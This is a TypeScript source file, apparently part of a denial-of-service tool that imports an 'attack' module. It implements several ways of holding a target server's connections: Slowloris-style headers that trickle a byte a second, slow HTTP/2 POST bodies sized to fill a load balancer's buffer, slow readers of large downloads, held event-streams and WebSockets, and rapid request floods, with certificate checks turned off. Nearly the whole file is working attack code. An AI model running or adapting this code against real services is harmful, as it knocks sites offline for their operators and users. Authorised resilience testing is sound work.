import { connect as connectHttp2, type ClientHttp2Session, type ClientHttp2Stream } from 'node:http2';
import { connect as connectTcp, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Order, Way } from './attack';

export interface Ledger {
  connections: number;
  underWay: number;
  end(how: string): void;
}

export interface Connection extends Order {
  readonly localAddress: string;
  readonly ledger: Ledger;
  /** The connection is open, or never will be. */
  readonly opened: () => void;
}

/** Holds one connection; resolves when either side has closed it. */
export type Hold = (connection: Connection) => Promise<void>;

const EACH_SECOND = 1_000;
/** Pause after an answer. With a shorter one the attacker's own processor would be the bottleneck. */
const AGAIN_AFTER = 5_000;
const AGAIN_SOON = 1_000;
/** More than a load balancer buffers before it asks a web server. */
const MORE_THAN_A_BUFFER = Buffer.alloc(20_000, 'x');
const LARGE = 50_000_000;

export const WAYS: Readonly<Record<Way, Hold>> = {
  // Every second stream sends at once what fills the load balancer's buffer, the others send a byte a second from the beginning
  'trickling-bodies': byHttp2({
    begin: (session, number) => {
      const stream = session.request({
        ':method': 'POST',
        ':path': '/api/notes',
        'content-type': 'application/json',
        'content-length': LARGE,
      });
      stream.write(number % 2 === 0 ? MORE_THAN_A_BUFFER : 'x');
      return stream;
    },
    eachSecond: (stream) => stream.write('x'),
  }),
  'slow-readers': byHttp2({
    begin: (session, _, { answerBytes = LARGE }) => session.request({ ':path': `/api/download?bytes=${answerBytes}` }),
    // Never more than what the window of the stream has room for
    eachSecond: (stream) => stream.read(100) as unknown,
  }),
  'event-streams': byHttp2({ begin: (session) => session.request({ ':path': '/api/events', accept: 'text/event-stream' }).resume() }),
  // A stream that does not announce itself takes a place of an ordinary request
  'undeclared-streams': byHttp2({ begin: (session) => session.request({ ':path': '/api/events' }).resume() }),
  // Many small requests, each answered at once
  requests: byHttp2({ begin: (session) => session.request({ ':path': '/api/whoami' }).resume(), againAfter: AGAIN_SOON }),
  'slow-heads': bySocket({ tls: true, head: ({ host }) => `GET / HTTP/1.1\r\nHost: ${host}\r\nX-Long: `, eachSecond: 'x' }),
  redirects: bySocket({ tls: false, head: ({ host }) => `GET / HTTP/1.1\r\nHost: ${host}\r\nX-Long: `, eachSecond: 'x' }),
  'web-sockets': bySocket({
    tls: true,
    head: ({ host }) =>
      `GET /api/socket HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n` +
      'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n',
  }),
};

interface Http2Way {
  readonly begin: (session: ClientHttp2Session, number: number, order: Order) => ClientHttp2Stream;
  readonly eachSecond?: (stream: ClientHttp2Stream) => void;
  /** Milliseconds. @default 5000 */
  readonly againAfter?: number;
}

function byHttp2({ begin, eachSecond, againAfter = AGAIN_AFTER }: Http2Way): Hold {
  return async (connection) => {
    const { target, localAddress, requestsPerConnection, ledger, opened } = connection;
    const { address, port = 443, host } = target;
    const tcp = connectTcp({ host: address, port, localAddress });
    const session = connectHttp2(`https://${host}`, {
      createConnection: () => connectTls({ socket: tcp, servername: host, ALPNProtocols: ['h2'], rejectUnauthorized: false }),
    });
    let wasOpen = false;
    const closed = new Promise<void>((resolve) => session.once('close', resolve));
    session.on('error', ({ message }: Error) => ledger.end(message));
    // Waits until the load balancer has said how many streams it takes: more would be refused
    session.once('remoteSettings', () => {
      wasOpen = true;
      ledger.connections += 1;
      opened();
      const streams = Math.min(requestsPerConnection, session.remoteSettings.maxConcurrentStreams ?? Infinity);
      for (let number = 0; number < streams; number += 1) void holdStreams(session, number);
    });
    await closed;
    opened();
    if (wasOpen) ledger.connections -= 1;
    else ledger.end('not opened');

    async function holdStreams(own: ClientHttp2Session, number: number): Promise<void> {
      while (!own.destroyed && !own.closed) {
        await holdStream(begin(own, number, connection));
        await sleep(againAfter);
      }
    }

    async function holdStream(stream: ClientHttp2Stream): Promise<void> {
      ledger.underWay += 1;
      let status: number | undefined;
      stream.on('response', (headers) => {
        status = headers[':status'];
        if (status !== undefined && status >= 400) stream.close();
      });
      stream.on('error', () => undefined);
      const timer = eachSecond && setInterval(() => stream.destroyed || eachSecond(stream), EACH_SECOND);
      await new Promise<void>((resolve) => stream.once('close', resolve));
      clearInterval(timer);
      ledger.underWay -= 1;
      ledger.end(status === undefined ? 'no answer' : String(status));
    }
  };
}

interface SocketWay {
  readonly tls: boolean;
  readonly head: (target: Order['target']) => string;
  /** @default silence */
  readonly eachSecond?: string;
}

function bySocket({ tls, head, eachSecond }: SocketWay): Hold {
  return async ({ target, localAddress, ledger, opened }) => {
    const { address, port = tls ? 443 : 80, host } = target;
    const tcp = connectTcp({ host: address, port, localAddress });
    const socket: Socket = tls ? connectTls({ socket: tcp, servername: host, rejectUnauthorized: false }) : tcp;
    let [wasOpen, answer] = [false, 'no answer'];
    socket.once(tls ? 'secureConnect' : 'connect', () => {
      wasOpen = true;
      ledger.connections += 1;
      ledger.underWay += 1;
      opened();
      socket.write(head(target));
    });
    socket.on('data', (chunk: Buffer) => {
      if (answer === 'no answer') answer = /^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1'))?.[1] ?? answer;
      if (Number(answer) >= 400) socket.destroy();
    });
    socket.on('error', () => undefined);
    const timer = eachSecond === undefined ? undefined : setInterval(() => wasOpen && socket.write(eachSecond), EACH_SECOND);
    await new Promise<void>((resolve) => socket.once('close', () => resolve()));
    clearInterval(timer);
    opened();
    if (wasOpen) {
      ledger.connections -= 1;
      ledger.underWay -= 1;
      ledger.end(answer);
    } else ledger.end('not opened');
  };
}
